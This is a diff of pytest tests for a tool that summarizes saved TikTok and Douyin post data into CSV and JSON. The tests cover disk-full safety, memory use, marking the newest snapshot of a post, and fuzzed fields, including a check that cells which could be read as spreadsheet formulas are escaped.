+def test_a_full_disk_leaves_the_old_outputs(raw: Path, monkeypatch: pytest.MonkeyPatch, writes: int) -> None:
+    out = raw / "out"
+    save(raw, envelope(tiktok_post()))
+    summarize(raw, out)
+    before = (out / CSV_NAME).read_bytes(), (out / JSON_NAME).read_bytes()
+    for number in range(20):
+        save(raw, envelope(tiktok_post()), f"{number}.json")
+    fdopen = os.fdopen
+    monkeypatch.setattr(os, "fdopen", lambda *arguments, **named: Full(fdopen(*arguments, **named), writes))
+    with pytest.raises(DiskFull):
+        summarize(raw, out)
+    assert left(out) == [CSV_NAME, JSON_NAME]
+    assert ((out / CSV_NAME).read_bytes(), (out / JSON_NAME).read_bytes()) == before
+
+
+def test_many_rows_are_written_in_pieces_and_none_is_kept(raw: Path) -> None:
+    content = json.dumps(envelope(tiktok_post(padding="x" * 20_000))).encode()
+    for number in range(1000):
+        save(raw, content.replace(TIKTOK_ID.encode(), str(number).encode()), f"{number:04}.json")
+    summarize(raw, raw / "out")  # what is made once is made
+    tracemalloc.start()
+    done = summarize(raw, raw / "out")
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert done.json_path.stat().st_size > 2_000_000
+    assert peak < 1_500_000
+    assert [row["aweme_id"] for row in table(raw / "out")] == [str(number) for number in range(1000)]
+
+
+# One post, several times
+
+
+@pytest.mark.parametrize(
+    ("times", "marks"),
+    [
+        ([1, 2, 3], [0, 0, 1]),
+        ([3, 2, 1], [1, 0, 0]),
+        ([1, 3, 2], [0, 1, 0]),
+        ([5, 5, 5], [0, 0, 1]),
+        ([None, None], [0, 1]),
+        ([1.5, None, "x", "9"], [1, 0, 0, 0]),
+    ],
+)
+def test_every_snapshot_of_a_post_is_a_row_and_the_newest_is_marked(
+    raw: Path, times: list[Json], marks: list[int]
+) -> None:
+    save(raw, b"", "00.json")
+    for number, moment in enumerate(times, 1):
+        save(raw, envelope(tiktok_post(), time_stamp=moment), f"{number}0.json")
+        save(raw, envelope(tiktok_post(aweme_id=f"{number}")), f"{number}5.json")
+    rows = run(raw)
+    assert [row["is_newest"] for row in rows if row["aweme_id"] == TIKTOK_ID] == marks
+    assert [row["is_newest"] for row in rows if row["aweme_id"] != TIKTOK_ID] == [None] + [1] * len(times)
+    assert [row["is_newest"] for row in table(raw.parent / "out")] == [
+        "" if row["is_newest"] is None else str(row["is_newest"]) for row in rows
+    ]
+
+
+@pytest.mark.parametrize("post_id", [None, "", {}, False])
+def test_a_post_without_an_id_is_not_compared(raw: Path, post_id: Json) -> None:
+    save(raw, envelope(tiktok_post(aweme_id=post_id)), "a.json")
+    save(raw, envelope(tiktok_post(aweme_id=post_id)), "b.json")
+    assert [row["is_newest"] for row in run(raw)] == [None, None]
+
+
+# Whatever comes
+
+
+def places(value: Json, path: tuple[Json, ...] = ()) -> Iterator[tuple[Json, ...]]:
+    yield path
+    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    for key, item in items:
+        yield from places(item, (*path, key))
+
+
+def replaced(value: Json, path: tuple[Json, ...], new: Json) -> Json:
+    if not path:
+        return new
+    copy = value.copy()
+    copy[path[0]] = replaced(value[path[0]], path[1:], new)
+    return copy
+
+
+ANSWERS = [envelope(tiktok_post()), envelope(douyin_post(), douyin=True), private_answer(), error_answer()]
+ANYTHING = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters(exclude_categories=())),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
+    max_leaves=5,
+)
+
+
+def as_cell(value: Json) -> str:
+    """What a reader of the CSV finds where the JSON has this value, but for the apostrophe of the guarded."""
+    if isinstance(value, str):
+        return value.replace("\0", "")
+    return "" if value is None else json.dumps(value, ensure_ascii=False)
+
+
+@settings(deadline=None)
+@given(st.data())
+def test_whatever_stands_in_whatever_field_both_outputs_are_sound_and_agree(data: st.DataObject) -> None:
+    answer = data.draw(st.sampled_from(ANSWERS))
+    answer = replaced(answer, data.draw(st.sampled_from(list(places(answer)))), data.draw(ANYTHING))
+    with tempfile.TemporaryDirectory() as folder:
+        save(Path(folder), answer)
+        done = summarize(Path(folder), Path(folder))
+        (row,) = strict(done.json_path)["videos"]
+        (cells,) = table(Path(folder))
+    assert tuple(row) == tuple(cells) == COLUMNS
+    assert (row["error"] is None) == row["parse_ok"] == (done.parsed == 1)
+    for key, value in row.items():
+        assert cells[key] in (as_cell(value), "'" + as_cell(value))
+        assert not isinstance(value, str) or not re.match(r'[\t\r\n]|[ "]*[=+\-@＝＋－＠]', cells[key])
